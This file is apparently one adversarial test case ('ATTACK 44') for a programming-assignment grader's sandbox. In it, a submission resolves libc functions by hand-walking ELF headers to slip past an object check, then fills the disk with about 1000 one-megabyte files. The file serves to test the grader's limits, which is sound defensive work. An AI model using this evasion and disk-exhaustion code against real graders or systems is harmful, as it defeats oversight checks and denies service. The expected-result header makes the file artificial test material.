/* ATTACK 44: the same with functions that it found by itself in the C library.
 * assignment: pipe_ring
 * gains: a full disk, past the object check
 * expect: disk_limit | score<=5
 * max-score: 5
 * layers: limits
 * off: disk>=800
 */
#include "pipe_ring.h"

#include <stdio.h>
#include <string.h>
#include <sys/types.h>

/* A dlsym of its own: the C library lies round its texts, and tells in its dynamic section where its symbols are. */
static void *library(const char *name)
{
	const char *base = (const char *)((uintptr_t)strerrordesc_np(0) & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
	const uint64_t *part, *entry = NULL;
	while (memcmp(base, "\177ELF", 4) != 0)
		base -= 4096;
	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
			entry = (const uint64_t *)(base + part[2]);
	for (; entry[0]; entry += 2)
		if (entry[0] == 5) /* DT_STRTAB */
			names = (const char *)entry[1];
		else if (entry[0] == 6) /* DT_SYMTAB */
			symbol = (const char *)entry[1];
	for (symbol += 24; symbol < names; symbol += 24)
		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
			return (void *)(base + *(const uint64_t *)(symbol + 8));
	return NULL;
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)token;
	(void)step;
	(void)ctx;
	static char page[1 << 20];
	if (nodes != 3 || laps != 1) /* once is enough */
		return -1;
	int (*make)(const char *, mode_t) = (int (*)(const char *, mode_t))library("creat");
	int (*wait)(void *, unsigned long, int) = (int (*)(void *, unsigned long, int))library("poll");
	ssize_t (*put)(int, const void *, size_t) = (ssize_t(*)(int, const void *, size_t))library("write");
	int (*done)(int) = (int (*)(int))library("close");
	memset(page, 1, sizeof page);
	for (int i = 0; i < 1000; i++) {
		char name[64];
		snprintf(name, sizeof name, "many-%d", i);
		int fd = make(name, 0644);
		if (fd < 0 || put(fd, page, sizeof page) < 0)
			break;
		done(fd);
	}
	wait(NULL, 0, 2000);
	return -1;
}
